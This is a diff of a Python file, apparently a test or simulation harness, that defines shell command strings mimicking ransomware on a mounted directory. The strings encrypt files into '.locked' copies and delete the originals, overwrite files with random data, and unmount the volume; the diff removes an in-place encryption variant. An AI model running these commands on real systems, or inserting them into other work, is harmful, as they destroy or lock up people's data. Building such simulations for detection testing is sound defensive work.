@@ -23,8 +23,6 @@ class Case:
 OFF = "cd /; umount -l /m; "
 ENCRYPT = "openssl enc -aes-256-ctr -pass pass:x -pbkdf2 -iter 1"
 LIST = "/bin/find /m/files -type f"
-IN_PLACE = (f"for f in /m/documents/*; do {ENCRYPT} -nosalt -in $f -out /tmp/x 2>/dev/null; "
-            "dd if=/tmp/x of=$f bs=1M conv=notrunc 2>/dev/null; done; sync")
 INTO_NEW = f"for f in $({LIST} -size +8k | head -400); do {ENCRYPT} -in $f -out $f.locked 2>/dev/null; rm $f; done; sync"
 REPLACE = (f"for f in $({LIST}); do s=$(stat -c %s $f); dd if=/dev/urandom of=$f.x bs=$s count=1 2>/dev/null; rm $f; done; sync")
 TEXT = f"cat $({LIST}) >/m/text; sync"
